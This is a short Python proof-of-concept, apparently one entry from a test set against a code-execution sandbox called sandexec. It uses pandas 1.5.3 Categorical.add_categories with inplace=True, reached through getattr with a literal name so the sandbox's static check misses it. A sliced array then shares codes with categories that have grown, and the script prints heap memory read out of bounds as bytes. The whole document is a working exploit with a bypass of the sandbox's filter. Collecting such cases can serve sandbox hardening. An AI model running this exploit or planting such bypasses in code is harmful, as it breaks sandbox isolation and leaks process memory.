# source: sandexec README, "The static check", "pandas' category methods with inplace= ... two Categoricals may share codes (cat[:], pd.Index(cat))"; pandas 1.5.3 Categorical.add_categories(new_categories, inplace); take_nd reads unchecked codes
# family: getattr literal name on the Series .cat accessor (category method inplace)
# goal: getattr(s.cat, "add_categories", None)(new, True) grows the Series' categories while a slice of its array shares the codes: heap read out of bounds
import numpy as np
import pandas as pd
s = pd.Series(pd.Categorical([1, 2, 1, 2], categories=[1, 2]))
d = s.array[:]
f = getattr(s.cat, "add_categories", None)
f(list(range(3, 120)), True)
s[1] = 100
s[2] = 110
print("codes of d", d.codes)
vals = np.asarray(d)
print("read past the categories of d:", vals)
print("as bytes:", vals[1:3].tobytes())
